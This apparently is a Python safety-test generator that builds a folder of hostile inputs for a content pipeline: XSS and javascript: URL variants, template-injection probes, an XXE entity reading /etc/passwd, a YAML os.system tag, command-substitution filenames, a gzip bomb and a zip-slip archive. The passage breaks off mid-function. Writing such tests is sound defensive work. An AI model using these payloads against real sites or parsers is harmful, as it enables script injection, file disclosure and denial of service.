"""A hostile content folder of our own: every payload in every format and field, each file with a word that must stay visible.

    python -m tests.safety.ours FOLDER     writes it, to look at or to build by hand
"""

from __future__ import annotations

import base64
import gzip
import io
import json
import sys
import zipfile
from collections.abc import Callable, Iterator
from html import escape
from pathlib import Path
from typing import NamedTuple


class Case(NamedTuple):
    """One input: where it lies, its bytes, and the word that readers must still find ("" where none must stay)."""

    path: str
    body: bytes
    word: str = ""


# ---------------------------------------------------------------- addresses that lead nowhere good

SCHEMES = (
    "javascript:canary()", "JaVaScRiPt:canary()", " javascript:canary()", "\tjavascript:canary()", "java\tscript:canary()", "java\nscript:canary()",
    "java\r\nscript:canary()", "\x01javascript:canary()", "\x1fjavascript:canary()", "\u00a0javascript:canary()", "\u2028javascript:canary()", "\ufeffjavascript:canary()",
    "javascript&colon;canary()", "&#106;avascript:canary()", "&#x6A;avascript:canary()", "&#0000106avascript:canary()", "javascript&#58;canary()",
    "java&Tab;script:canary()", "java&NewLine;script:canary()", "%6Aavascript:canary()", "javascript%3Acanary()", "javascript\u200b:canary()",
    "java\u00adscript:canary()", "ｊavascript:canary()", "javaſcript:canary()", "javascript://example.org/%0acanary()", "javascript:/*--></script><x-canary>*/canary()",
    "vbscript:canary()", "livescript:canary()", "mocha:canary()", "data:text/html,<script>canary()</script>", "data:text/html;base64,PHNjcmlwdD5jYW5hcnkoKTwvc2NyaXB0Pg==",
    "data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' onload='canary()'/>", "DATA:,x", "data&colon;text/html,x", "blob:https://evil.example/1", "filesystem:https://evil.example/x",
    "view-source:javascript:canary()", "feed:javascript:canary()", "jar:https://evil.example!/x", "mhtml:https://evil.example!x", "file:///etc/passwd", "FILE:/etc/passwd",
    "//evil.example/x", "\\\\evil.example\\x", "/\\evil.example/x", "https:evil.example", "https:/\\evil.example", "https:///evil.example", "http://[::1", "http://[evil", "https://",
    "https://evil.example:99999999/", "https://good.example@evil.example/", "https://good.example\\@evil.example/", "https://\u0430\u0440\u0440\u04cf\u0435.example/", "https://good.example\u202egpj.exe",
    "https://good.example/\"onmouseover=\"canary()", "https://good.example/'onmouseover='canary()", "https://good.example/><x-canary>", "https://good.example/`onx=`", "https://good.example/ onload=canary()",
    "https://good.example/{{7*7}}", "https://good.example/%00%0d%0aSet-Cookie:x", "https://good.example/\r\nX-Evil: 1", "tel:+1", "intent://x#Intent;end", "ms-word:ofe|u|x", "chrome://settings", "about:blank", "ws://evil.example",
    "https://good.example/" + "a" * 9_000, "../../../../etc/passwd", "?x", "#x", "", "mailto:a@b.example?bcc=evil@evil.example&body=%0d%0a",
)  # fmt: skip

# ---------------------------------------------------------------- markup that means harm; CANARY is where the word stands

MARKUPS = (
    "<script>canary()</script>", "<SCRIPT SRC=//evil.example/x.js></SCRIPT>", "<script\x0bsrc=//evil.example>", "<script/canary>canary()</script>", "<scr<script>ipt>canary()</scr</script>ipt>",
    "<<script>canary()//<</script>", "<script>canary()", "</script><script>canary()</script>", "<img src=x onerror=canary()>", "<img src='x'onerror=canary()>", "<img/src/onerror=canary()>", "<img src=x onerror\n=\ncanary()>",
    "<img src=`x`onerror=canary()>", "<IMG SRC=# ONMOUSEOVER=canary()>", "<img src=//evil.example/t.gif>", "<img srcset='//evil.example/a 1x'>", "<picture><source srcset=//evil.example/a><img></picture>", "<image src=//evil.example/a>", "<img src=data:image/svg+xml,x>",
    "<svg onload=canary()>", "<svg><script>canary()</script></svg>", "<svg><script href=data:,canary()></script></svg>", "<svg><animate onbegin=canary() attributeName=x dur=1s>", "<svg><a xlink:href=javascript:canary()><text>x</text></a></svg>",
    "<svg><use href=//evil.example/x.svg#y>", "<svg><set attributeName=href to=javascript:canary()></svg>", "<svg><foreignObject><body onload=canary()></foreignObject></svg>", "<svg><style><img src=x onerror=canary()></style></svg>", "<svg></p><style><a id=\"</style><img src=x onerror=canary()>\">",
    "<math><mi//xlink:href=\"data:x,<script>canary()</script>\">", "<math><maction actiontype=statusline xlink:href=javascript:canary()>x</maction></math>", "<math><mtext><table><mglyph><style><!--</style><img title=\"--&gt;&lt;img src=x onerror=canary()&gt;\">",
    "<math><annotation-xml encoding=\"text/html\"><style><img src=x onerror=canary()></style>", "<form><math><mtext></form><form><mglyph><style></math><img src onerror=canary()>", "<noscript><p title=\"</noscript><img src=x onerror=canary()>\">",
    "<textarea><img title=\"</textarea><img src=x onerror=canary()>\">", "<title><img title=\"</title><img src=x onerror=canary()>\">", "<xmp><img title=\"</xmp><img src=x onerror=canary()>\">", "<noembed><img title=\"</noembed><img src=x onerror=canary()>\">", "<noframes><img title=\"</noframes><img src=x onerror=canary()>\">",
    "<iframe src=javascript:canary()></iframe>", "<iframe srcdoc=\"<script>canary()</script>\">", "<iframe><img title=\"</iframe><img src=x onerror=canary()>\">", "<object data=data:text/html,x></object>", "<embed src=//evil.example/x.swf>", "<applet code=x></applet>",
    "<frameset onload=canary()><frame src=//evil.example>", "<portal src=//evil.example>", "<fencedframe src=//evil.example>", "<template><script>canary()</script></template>", "<template shadowrootmode=open><script>canary()</script></template>", "<slot onslotchange=canary()>", "<plaintext>",
    "<base href=//evil.example/>", "<meta http-equiv=refresh content='0;url=javascript:canary()'>", "<meta http-equiv=Content-Security-Policy content=\"default-src *\">", "<meta charset=utf-7>", "<link rel=stylesheet href=//evil.example/x.css>", "<link rel=import href=//evil.example>",
    "<link rel=prefetch href=//evil.example>", "<style>@import '//evil.example/x';*{background:url(//evil.example)}</style>", "<style>/*</style><img src=x onerror=canary()>*/", "<div style='background:url(//evil.example)'>", "<div style=\"position:fixed;inset:0;z-index:99999\">", "<p style=behavior:url(x)>",
    "<a href=x onclick=canary()>", "<a href='x' style='position:fixed;inset:0'>", "<a href=x target=_blank ping=//evil.example>", "<a href=x download=x.exe>", "<a id=body name=cookie>", "<form action=//evil.example><input name=a><button formaction=javascript:canary()>", "<input autofocus onfocus=canary()>",
    "<select autofocus onfocus=canary()>", "<textarea autofocus onfocus=canary()>", "<keygen autofocus onfocus=canary()>", "<isindex action=javascript:canary()>", "<details open ontoggle=canary()>", "<dialog open onclose=canary()>", "<video src=//evil.example/v autoplay onloadstart=canary()>", "<audio src=x onerror=canary()>",
    "<video poster=//evil.example/p>", "<track src=//evil.example/t>", "<marquee onstart=canary()>", "<bgsound src=//evil.example>", "<layer src=//evil.example>", "<ilayer src=//evil.example>", "<body onload=canary() background=//evil.example>", "<table background=//evil.example>", "<html manifest=//evil.example>",
    "<x onclick=canary() tabindex=1>", "<x-canary is=script>", "<button popovertarget=x onbeforetoggle=canary()>", "<div popover id=x onbeforetoggle=canary()>", "<p contenteditable onblur=canary()>", "<p accesskey=x onclick=canary()>", "<p itemprop=headline content='x' onpointerrawupdate=canary()>", "<p on onx= x=\"><x-canary>\">",
    "<!--<img title=\"--><img src=x onerror=canary()>\">", "<!--!><img src=x onerror=canary()>-->", "<!--><img src=x onerror=canary()>", "<!---><img src=x onerror=canary()>", "<!-- --!><img src=x onerror=canary()>", "<![CDATA[<img src=x onerror=canary()>]]>", "<![if gte IE 4]><script>canary()</script><![endif]>", "<!--[if IE]><script>canary()</script><![endif]-->",
    "<?php system('id') ?>", "<?xml-stylesheet href=javascript:canary()?>", "<% canary() %>", "<!--#exec cmd=\"id\" -->", "<!DOCTYPE x [<!ENTITY e SYSTEM 'file:///etc/passwd'>]>&e;", "&lt;script&gt;canary()&lt;/script&gt;", "&amp;lt;script&amp;gt;canary()&amp;lt;/script&amp;gt;", "&#60;img src=x onerror=canary()&#62;", "&#x3c;x-canary&#x3e;", "&ltscript&gtcanary()",
    "\\u003cscript\\u003ecanary()\\u003c/script\\u003e", "\\x3cscript\\x3ecanary()\\x3c/script\\x3e", "%3Cscript%3Ecanary()%3C/script%3E", "+ADw-script+AD4-canary()+ADw-/script+AD4-", "\uff1cscript\uff1ecanary()\uff1c/script\uff1e", "\u2039script\u203acanary()", "\u0000<script>canary()</script>", "<\u0000script>canary()</script>", "<scri\u0000pt>canary()</script>",
    "{{7*7}}", "{{ ''.__class__.__mro__ }}", "{% for x in ().__class__.__base__.__subclasses__() %}{{x}}{% endfor %}", "{{ config }}", "{#x#}", "{%raw%}{{7*7}}{%endraw%}", "${7*7}", "#{7*7}", "<%= 7*7 %>", "{{=<% %>=}}<%7*7%>", "[[${7*7}]]", "@(7*7)", "{{constructor.constructor('canary()')()}}", "<div ng-app>{{$on.constructor('canary()')()}}</div>",
    "<div hx-get=//evil.example hx-trigger=load>", "<div x-data x-init=canary()>", "<div v-html=canary()>", "{{< script >}}", "{% include '/etc/passwd' %}", "{% extends 'default/base.html' %}", "{{ page }}", "{{ t }}", "]]>", "]]]]><![CDATA[>", "<![CDATA[", "--></style></script></title></textarea>", "\"><x-canary>", "'><x-canary>",
    "\" onmouseover=\"canary()", "' onmouseover='canary()", "` onmouseover=`canary()", "</p></article></main></body></html><script>canary()</script>", "<script type=application/ld+json>{\"@type\":\"x\"}</script>", "</title><script>canary()</script>", "\u202e\u2066<script>canary()</script>\u2069\u202c",
)  # fmt: skip

# ---------------------------------------------------------------- the formats: (payload, word) -> path's ending, bytes


def _prose(text: str, word: str) -> str:
    return f"SELMOUTH, Oct. 14, 2025 \u2014 The ferry left the harbour at nine, the port said. {text} The {word} came back before noon, with all on board."


def _json(**fields: object) -> bytes:
    return json.dumps(fields).encode("utf-8", "replace")


def _utf8(text: str) -> bytes:
    return text.encode("utf-8", "replace")


def _front(**fields: object) -> str:
    return "---\n" + "".join(f"{name}: {json.dumps(value)}\n" for name, value in fields.items()) + "---\n\n"


Form = tuple[str, Callable[[str, str], bytes]]
_ITEM = "<rss version='2.0' xmlns:content='http://purl.org/rss/1.0/modules/content/'><channel><title>C</title><item>{}</item></channel></rss>"
TEXT_FORMS: tuple[Form, ...] = (
    (".txt", lambda p, w: _utf8(f"Ferry leaves {w} late\n\n{_prose(p, w)}\n")),
    (".md", lambda p, w: _utf8(f"# Ferry leaves late\n\n{_prose('', w)}\n\n{p}\n\nIt came back again before noon.\n")),
    (".md", lambda p, w: _utf8(f"# Ferry leaves late\n\n{_prose('', w)}\n\n> {p}\n\n- {p}\n\n| a | b |\n|---|---|\n| {p} | c |\n\n```{p}\n{p}\n```\n\n    {p}\n")),
    (".md", lambda p, w: _utf8(_front(title=p, author=[p], tags=[p], section=p, deck=p, source=p, date=p, language=p, rights=p) + _prose("", w))),
    (".md", lambda p, w: _utf8(f"+++\ntitle = {json.dumps(p)}\n[extra]\n{json.dumps(p)} = {json.dumps(p)}\n+++\n\n{_prose('', w)}")),
    (".md", lambda p, w: _utf8(f"---\n{json.dumps(p)}: &a [*a, {json.dumps(p)}]\n? {json.dumps(p)}\n: !!python/object {json.dumps(p)}\n---\n\n{_prose('', w)}")),
    (".html", lambda p, w: _utf8(f"<title>Ferry leaves late</title><article><h1>Ferry leaves late</h1><p>{_prose('', w)}</p><p>{p}</p></article>")),
    (".html", lambda p, w: _utf8(f"<head><title>{escape(p)}</title><meta property=og:title content=\"{escape(p)}\"><meta name=author content=\"{escape(p)}\"></head><article><h1>{escape(p)}</h1><p>{_prose('', w)}</p></article>")),
    (".html", lambda p, w: _utf8(f"<head><title>T</title><script type=application/ld+json>{json.dumps({'@type': 'NewsArticle', 'headline': p, 'author': [{'name': p}], 'publisher': {'name': p}, 'datePublished': p, 'articleSection': p, 'keywords': [p]})}</script></head><article><h1>T</h1><p>{_prose('', w)}</p></article>")),
    (".json", lambda p, w: _json(title=p, author=[p], site_name=p, section=p, tags=[p], date=p, description=p, text=_prose(p, w))),
    (".json", lambda p, w: _json(**{p[:200] or "x": p}, content_html=f"<p>{_prose('', w)}</p><p>{p}</p>")),
    (".jsonl", lambda p, w: _json(headline=p, byline=p, body=[_prose("", w), p]) + b"\n" + _json(x=p) + b"\n"),
    (".rss", lambda p, w: _utf8(_ITEM.format(f"<title>{escape(p)}</title><guid>{escape(p)}</guid><author>{escape(p)}</author><category>{escape(p)}</category><description>{escape(_prose(p, w))}</description>"))),
    (".rss", lambda p, w: _utf8(_ITEM.format(f"<title>T</title><pubDate>{escape(p)}</pubDate><content:encoded>{escape('<p>' + _prose('', w) + '</p><p>' + p + '</p>')}</content:encoded>"))),
    (".atom", lambda p, w: _utf8(f"<feed xmlns='http://www.w3.org/2005/Atom'><title type='html'>{escape(p)}</title><entry><title type='html'>{escape(p)}</title><id>{escape(p)}</id><summary type='html'>{escape(p)}</summary><content type='html'>{escape(_prose(p, w))}</content></entry></feed>")),
    (".eml", lambda p, w: _utf8(f"From: {p[:200].splitlines()[0] if p.strip() else 'x'} <a@b.example>\nTo: c@d.example\nSubject: =?utf-8?b?{base64.b64encode(_utf8(p[:300])).decode()}?=\nMIME-Version: 1.0\nContent-Type: text/html; charset=utf-8\n\n<p>{_prose('', w)}</p><p>{p}</p>\n")),
)  # fmt: skip
LINK_FORMS: tuple[Form, ...] = (
    (".md", lambda p, w: _utf8(f"# Ferry leaves late\n\n{_prose('', w)} [here]({p}) and [there](<{p}> \"{p}\") and ![{p}]({p}) and <{p}> and [ref] and [ref2][r].\n\n[ref]: {p}\n[r]: <{p}> '{p}'\n\n[^n]\n\n[^n]: {p}\n\n<a href=\"{p}\">x</a> <a href={p}>y</a>\n")),
    (".html", lambda p, w: _utf8(f"<head><title>Ferry</title><link rel=canonical href=\"{escape(p)}\"><meta property=og:url content=\"{escape(p)}\"><meta property=og:image content=\"{escape(p)}\"><base href=\"{escape(p)}\"></head><article><h1>Ferry</h1><p>{_prose('', w)} <a href=\"{escape(p)}\">here</a> <a href=\"{p}\">raw</a> <a href='rel/x'>rel</a><area href=\"{escape(p)}\"><img src=\"{escape(p)}\" alt=\"{escape(p)}\"></p></article>")),
    (".json", lambda p, w: _json(title="Ferry", url=p, link=p, image=p, author={"name": "A", "url": p}, text=_prose("", w), content_html=f"<p>{_prose('', w)} <a href=\"{escape(p)}\">here</a></p>")),
    (".rss", lambda p, w: _utf8(_ITEM.format(f"<title>T</title><link>{escape(p)}</link><guid isPermaLink='true'>{escape(p)}</guid><enclosure url=\"{escape(p)}\" type='x' length='1'/><source url=\"{escape(p)}\">{escape(p)}</source><description>{escape(_prose('', w) + ' <a href=' + json.dumps(p) + '>x</a>')}</description>"))),
    (".md", lambda p, w: _utf8(_front(title="Ferry", url=p, source=p, author=p) + _prose("", w))),
)  # fmt: skip


def crossed(schemes: tuple[str, ...] = SCHEMES, markups: tuple[str, ...] = MARKUPS, turns: int = 4) -> Iterator[Case]:
    """Every address in every place for one, and every piece of markup in four formats by turns, so that each pair of kinds is met."""
    for number, payload in enumerate(schemes):
        for at, (suffix, form) in enumerate(LINK_FORMS):
            yield Case(f"links/{number:03}-{at}{suffix}", form(payload, f"zebra{number:03}l{at}"), f"zebra{number:03}l{at}")
    for number, payload in enumerate(markups):
        for turn in range(turns):
            at = (number + turn * 5) % len(TEXT_FORMS)
            suffix, form = TEXT_FORMS[at]
            yield Case(f"markup/{number:03}-{at}{suffix}", form(payload, f"zebra{number:03}m{at}"), f"zebra{number:03}m{at}")


# ---------------------------------------------------------------- encodings, structures, sizes, names


def _text(word: str) -> str:
    return f"Ferry leaves late\n\n{_prose('', word)}\n"


def encodings() -> Iterator[Case]:
    """Bytes that are not what they seem."""
    made = {
        "utf8-bom": b"\xef\xbb\xbf" + _text("zebraenc1").encode(), "bom-twice": b"\xef\xbb\xbf\xef\xbb\xbf" + _text("zebraenc2").encode(),
        "bom-16-in-8": b"\xef\xbb\xbf" + _text("zebraenc3").encode() + b"\xff\xfe", "utf16be": _text("zebraenc4").encode("utf-16-be"),
        "utf32be-bom": b"\x00\x00\xfe\xff" + _text("zebraenc5").encode("utf-32-be"), "utf16-odd": _text("zebraenc6").encode("utf-16") + b"\x41",
        "utf7": (_text("zebraenc7") + "+ADw-script+AD4-canary()+ADw-/script+AD4-").encode(), "overlong": _text("zebraenc8").encode() + b"\xc0\xbcscript\xc0\xbe \xe0\x80\xbc \xf0\x80\x80\xbc",
        "cesu8": _text("zebraenc9").encode() + b"\xed\xa0\xbd\xed\xb8\x80", "beyond": _text("zebraenc10").encode() + b"\xf5\x90\x80\x80 \xfe \xff", "nuls": b"\x00".join([_text("zebraenc11").encode(), b"", b"", b"x"]),
        "iso2022": b"\x1b$B" + _text("zebraenc12").encode("ascii", "replace") + b"\x1b(J", "gb-declared": b"<meta charset=gb18030><article><p>" + _text("zebraenc13").encode("gb18030") + b"\x81\x30</p></article>",
        "hz": b"~{<:Ky2;VSS~}" + _text("zebraenc14").encode(), "ebcdic-meta": b"<meta charset=cp037><p>" + _text("zebraenc15").encode() + b"</p><p>x</p>", "idna-meta": b"<meta charset=idna><p>" + _text("zebraenc16").encode() + b"</p><p>x</p>",
        "rot13-meta": b"<meta charset=rot13><p>" + _text("zebraenc17").encode() + b"</p><p>x</p>", "zlib-meta": b"<meta charset=zlib_codec><p>" + _text("zebraenc18").encode() + b"</p><p>x</p>", "undefined-meta": b"<meta charset=undefined><p>" + _text("zebraenc19").encode() + b"</p><p>x</p>",
        "mbcs-meta": b"<meta charset=mbcs><p>" + _text("zebraenc20").encode() + b"</p><p>x</p>", "punycode-meta": b"<meta charset=punycode><p>" + _text("zebraenc21").encode() + b"</p><p>x</p>", "controls": _utf8(_text("zebraenc22") + "".join(map(chr, range(1, 32))) + "".join(map(chr, range(127, 160)))),
        "bidi": _utf8(_text("zebraenc23") + "\u202a\u202b\u202c\u202d\u202e\u2066\u2067\u2068\u2069\u200e\u200f\u061c"), "tags": _utf8(_text("zebraenc24") + "".join(chr(0xE0000 + n) for n in range(128))), "private": _utf8(_text("zebraenc25") + "\ue000\uf8ff\U000f0000\U0010fffd\ufdd0\ufffe\uffff"),
        "combining": _utf8(_text("zebraenc26") + "e" + "\u0301" * 20_000), "rtl": _utf8("הסירה עזבה את הנמל בתשע.\n\nالعبارة غادرت الميناء في التاسعة صباحا يوم الثلاثاء zebraenc27 وعادت قبل الظهر.\n"), "line-ends": b"Ferry leaves late\r\rSELMOUTH, Oct. 14, 2025 - The ferry left the harbour at nine, the port said in a note.\r\rThe zebraenc28 came back before noon, with all on board.\r\rIt left\x0bagain\x0clater\x1cand\x1dso\x1eon.\xc2\x85x\xe2\x80\xa8y\xe2\x80\xa9z",
    }  # fmt: skip
    for number, (name, body) in enumerate(made.items(), 1):
        suffix = ".html" if body.startswith(b"<meta") else ".txt"
        yield Case(f"enc/{name}{suffix}", body, "" if name == "controls" else f"zebraenc{number}")  # so many controls are no text


def _deep(opening: str, closing: str, times: int, word: str) -> str:
    return opening * times + word + closing * times


def structures() -> Iterator[Case]:
    """Nesting, repetition, bombs, and formats inside formats."""
    n = iter(range(1, 1_000))

    def case(name: str, body: str | bytes, word: bool = True) -> Case:
        return Case(f"deep/{name}", _utf8(body) if isinstance(body, str) else body, f"zebrast{number}" if word else "")

    for name, opening, closing in (
        ("quotes.md", "> ", ""), ("list.md", "- ", ""), ("emph.md", "*a ", "*"), ("brackets.md", "[", "](x)"), ("parens.txt", "(", ")"), ("code.md", "`", "`"), ("images.md", "![", "](x)"),
        ("div.html", "<div>", "</div>"), ("b.html", "<p><b>", "</b></p>"), ("font.html", "<font>", ""), ("ul.html", "<ul><li>", "</li></ul>"), ("quote.html", "<blockquote>", "</blockquote>"), ("table.html", "<table><tr><td>", "</td></tr></table>"),
        ("a.html", "<a href=x>", "</a>"), ("unclosed.html", "<p><i><b><u>", ""), ("span.html", "<span>", "</span>"), ("details.html", "<details>", "</details>"), ("dl.html", "<dl><dd>", "</dd></dl>"), ("article.html", "<article>", "</article>"), ("select.html", "<select><option>", ""), ("ruby.html", "<ruby><rt>", ""),
    ):  # fmt: skip
        for times in (90, 110, 700, 3_000):
            number = next(n)
            yield case(f"{times}-{name}", f"Ferry leaves late\n\n{_deep(opening, closing, times, f' zebrast{number} ')}\n\nIt came back before noon.\n")
    for name, make in (
        ("arrays.json", lambda w: "[" * 2_000 + f'{{"text":"{w}"}}' + "]" * 2_000), ("objects.json", lambda w: '{"text":' * 2_000 + f'"{w}"' + "}" * 2_000), ("line.jsonl", lambda w: "[" * 2_000 + "\n"), ("feed.xml", lambda w: "<rss><channel><item>" + "<b>" * 2_000 + "</b>" * 2_000 + "</item></channel></rss>"),
        ("flow.md", lambda w: "---\na: " + "[" * 5_000 + "\n---\n\nx"), ("lol.xml", lambda w: "<!DOCTYPE lolz [<!ENTITY a 'ha'>" + "".join(f"<!ENTITY {chr(98 + i)} '{'&' + chr(97 + i) + ';' * 10}'>" for i in range(20)) + "]><rss><channel><item><title>&u;</title></item></channel></rss>"),
    ):  # fmt: skip
        yield Case(f"deep/refused-{name}", _utf8(make("x")))
    for name, make in (
        ("merge.md", lambda w: "---\nbase: &b {title: T}\n<<: [*b, *b]\ntitle: x\n---\n\n" + w), ("alias.md", lambda w: "---\na: &a [x,x,x,x,x,x,x,x,x]\nb: &b [*a,*a,*a,*a,*a,*a,*a,*a,*a]\nc: &c [*b,*b,*b,*b,*b,*b,*b,*b,*b]\ntags: [*c,*c,*c,*c,*c,*c,*c,*c,*c]\n---\n\n" + w),
        ("self.md", lambda w: "---\ntags: &t [*t]\nauthor: &u {name: *u}\n---\n\n" + w), ("tag.md", lambda w: "---\ntitle: !!python/object/apply:os.system ['touch x']\n!evil key: !<tag:x> v\n---\n\n" + w), ("binary.md", lambda w: "---\ntitle: !!binary AAAA\ndate: !!timestamp x\n---\n\n" + w),
        ("documents.md", lambda w: "---\na: 1\n--- !x\nb: 2\n---\n\n" + w), ("directive.md", lambda w: "---\n%YAML 9.9\n%TAG ! tag:x,2000:\n---\n\n" + w), ("null-key.md", lambda w: "---\n? \n: x\n~: y\n{}: z\n[]: q\n---\n\n" + w), ("toml.md", lambda w: "+++\ntitle = 1979-05-27T07:32:00Z\ndate = inf\ntags = [[],{},nan]\n[a]\n[a.b]\n[[c]]\n+++\n\n" + w),
        ("toml-bad.md", lambda w: "+++\na = 1\na = 2\n\"\" = \"\\u0000\"\n+++\n\n" + w), ("toml-big.md", lambda w: "+++\na = " + "9" * 100_000 + "\n+++\n\n" + w), ("many-refs.md", lambda w: w + "\n\n" + "".join(f"[r{i}]: javascript:canary()\n" for i in range(3_000)) + "[r1]" * 3_000), ("many-notes.md", lambda w: w + "[^1]" * 3_000 + "\n\n[^1]: x[^1]\n"),
        ("table.md", lambda w: w + "\n\n" + "|a" * 2_000 + "\n" + "|-" * 2_000 + "\n" + "|b\n" * 500), ("entities.html", lambda w: f"<p>The {w} came back before noon, the port said on Tuesday.</p><p>" + "&lt;" * 60_000 + "</p>"), ("attributes.html", lambda w: f"<p>The {w} came back before noon, the port said on Tuesday.</p><p " + "".join(f"a{i}=x " for i in range(20_000)) + ">x</p>"), ("classes.html", lambda w: f"<p>The {w} came back before noon, the port said on Tuesday.</p><p class='" + "a " * 100_000 + "'>x</p>"),
        ("ids.html", lambda w: f"<p>The {w} came back before noon, the port said on Tuesday.</p>" + "".join(f"<p id=main>x{i}</p>" for i in range(3_000))), ("metas.html", lambda w: "<head>" + "<meta name=author content=x>" * 20_000 + f"</head><p>The {w} came back before noon, the port said on Tuesday.</p><p>x</p>"), ("lds.html", lambda w: '<script type=application/ld+json>{"@graph":[' * 500 + f"</script><p>The {w} came back before noon, the port said on Tuesday.</p><p>x</p>"),
        ("ld-wide.html", lambda w: "<script type=application/ld+json>" + json.dumps([{"@type": "NewsArticle", "headline": "x"}] * 5_000) + f"</script><p>The {w} came back before noon, the port said on Tuesday.</p><p>x</p>"), ("paragraphs.txt", lambda w: "".join(f"Paragraph {i} of the report.\n\n" for i in range(5_000)) + f"The {w} came back before noon, the port said on Tuesday.\n"),
        ("paragraphs.html", lambda w: f"<article><p>{w}</p>" + "<p>One more line of it.</p>" * 5_000 + "</article>"), ("rules.md", lambda w: w + "\n\n" + "***\n" * 5_000), ("headings.md", lambda w: f"The {w} came back before noon, the port said on Tuesday.\n\n" + "# x\n" * 5_000), ("breaks.html", lambda w: f"<p>{w} " + "x<br>" * 20_000 + "</p><p>x</p>"),
        ("line.txt", lambda w: f"Ferry leaves late\n\n{w} " + "and on it went, " * 10_000), ("word.txt", lambda w: f"Ferry leaves late\n\nThe {w} came back.\n\n" + "w" * 150_000), ("han.txt", lambda w: f"{w}\n\n" + "港口" * 80_000), ("stops.txt", lambda w: f"Ferry leaves late\n\nThe {w} came back.\n\n" + "!" * 150_000), ("dots.md", lambda w: f"The {w} came back.\n\n" + "." * 150_000),
        ("questions.html", lambda w: f"<p>The {w} came back.</p><p>" + "?" * 150_000 + "</p>"), ("spaces.txt", lambda w: f"The {w} came back." + " " * 150_000 + "x"), ("blank-head.md", lambda w: "---\na: 1" + "\n" * 200_000 + f"---\n\nThe {w} came back."), ("escapes.md", lambda w: f"The {w} came back.\n\n" + "\\[" * 100_000), ("cdata.xhtml", lambda w: '<?xml version="1.0"?><html xmlns="http://www.w3.org/1999/xhtml"><body><p>' + w + "</p><p>" + "<![CDATA[" * 50_000),
        ("bylines.txt", lambda w: f"Ferry leaves late\n\nThe {w} came back before noon, the port said on Tuesday.\n\n" + "By Ann Lee\n" * 1_500), ("title.json", lambda w: json.dumps({"title": "t" * 120_000, "text": f"The {w} came back."})), ("deck.json", lambda w: json.dumps({"title": "t", "description": "One more word. " * 9_000, "text": f"The {w} came back."})), ("same.jsonl", lambda w: (json.dumps({"text": f"The {w} came back."}) + "\n") * 300),
        ("page-in-feed.xml", lambda w: _ITEM.format(f"<title>T</title><description>{escape(escape('<script>canary()</script>' + w))}</description>")), ("mail-in-mail.eml", lambda w: f"From: a@b.example\nMIME-Version: 1.0\nSubject: x\nContent-Type: multipart/mixed; boundary=b\n\n--b\nContent-Type: message/rfc822\n\nFrom: c@d.example\nSubject: y\nContent-Type: text/plain\n\n{w} came\n--b\nContent-Type: text/html; charset=x-unknown\nContent-Transfer-Encoding: base64\n\n!!!!\n--b--\n"),
        ("json.txt", lambda w: json.dumps({"title": "<script>canary()</script>", "text": f"The {w} came back."})), ("html.json", lambda w: f"<!doctype html><html><body><p>The {w} came back.</p><p><script>canary()</script></p></body></html>"), ("feed.html", lambda w: _ITEM.format(f"<title>T</title><description>The {w} came back.</description>")), ("keys.json", lambda w: json.dumps({"__proto__": {"x": 1}, "constructor": "x", "": "", "text": f"The {w} came back.", "\u202e": "\x1b[31m"})),
        ("twice.json", lambda w: '{"text": "x", "text": "The ' + w + ' came back.", "title": "\\ud800"}'), ("numbers.json", lambda w: '{"title": 1e999999, "date": 99999999999999999999, "text": "The ' + w + ' came back.", "author": [1, null, {"name": []}]}'), ("comment.xml", lambda w: "<rss><channel><!-- -- --><?pi x?><item><title><![CDATA[]]]]><![CDATA[>]]></title><description>The " + w + " came back.</description></item></channel></rss>"),
        ("ns.xml", lambda w: '<x:rss xmlns:x="javascript:canary()"><x:channel><x:item><x:title>T</x:title><x:description>The ' + w + " came back.</x:description></x:item></x:channel></x:rss>"), ("space.xml", lambda w: "<rss xml:base='javascript:' xml:space='x'><channel><item><link>canary()</link><description>The " + w + " came back.</description></item></channel></rss>"),
    ):  # fmt: skip
        number = next(n)
        yield case(name, make(f"zebrast{number}"))
    yield Case("deep/bomb.txt.gz", gzip.compress(b"\0" * 50_000_000, mtime=0))
    yield Case("deep/cut.html.gz", gzip.compress(b"<p>x</p>" * 1_000, mtime=0)[:-9])
    yield Case("deep/many.txt.gz", gzip.compress(b"The zebragz came back before noon.\n", mtime=0) * 50, "zebragz")
    archive = io.BytesIO()
    with zipfile.ZipFile(archive, "w", zipfile.ZIP_DEFLATED) as packed:
        packed.writestr("../../evil.txt", "x" * 1_000_000)
    yield Case("deep/slip.html", archive.getvalue())


NAMES = (
    "line\nfeed", "carriage\rreturn", "esc\x1b[31m\x1b]0;canary\x07", "tab\tbed", "quote\"s", "quote's", "back`tick", "a&b<x-canary>", "percent%00%2e%2e%2f", "question?x=1", "hash#x", "semi;colon", "back\\slash", "colon:x", "star*", "pipe|x", "lt<gt>", "dollar$(id)", "{{7*7}}", "{%x%}",
    "-rf", "--help", "-", "~", "~root", " lead", "trail ", "dot.", "..twodots", "...", "con", "nul", "aux", "com1", "lpt9", "prn.x", "feed", "index", "404", "search", "sitemap", "robots", "updates", "daily", "about", "pagefind", "static", "story", "article", "source", "topic", "feeds", "_headers", "_redirects", "2025",
    "caf\u00e9", "cafe\u0301", "CAFE\u0301", "stra\u00dfe", "STRASSE", "Case", "case", "CASE", "\u0130stanbul", "i\u0307stanbul", "istanbul", "ﬁle", "file", "ⅷ", "viii", "①", "1", "\u202etxt.exe", "\u2066x\u2069", "\u200bzero", "\u00adsoft", "\ufeffbom", "emoji👩‍👩‍👧‍👦🇺🇦", "漢字" * 30, "x" * 240, "é" * 120, "a.b.c.d.e", "%s%n%x",
    "\U000e0041tag", "javascript:canary()", "http:", "C:", "desktop", "_folder", "x.meta", ".meta.toml.", "a=b", "a+b", "a b  c", "\u3000wide", "\x7fdel", "\x85nel", "\u2028ls", "\ud7ff", "\ufffd",
)  # fmt: skip


def names() -> Iterator[Case]:
    """Names that other programs trip over; a slash cannot be in one. What begins with a point is passed over."""
    for number, name in enumerate(NAMES):
        word = f"zebraname{number:03}"
        yield Case(f"names/{name}.txt", _utf8(f"Ferry {name} leaves late\n\n{_prose('', word)}\n"), "" if name[0] == "." else word)
    for number, name in enumerate(NAMES[:20]):
        word = f"zebrafolder{number:03}"
        yield Case(f"folders/{name}/{name}/a.md", _utf8(f"# Ferry leaves\n\n{_prose('', word)}\n"), word)


def sidecars() -> Iterator[Case]:
    """What stands beside articles."""
    hostile = json.dumps("</title><script>canary()</script>\u202e")
    for number, body in enumerate(
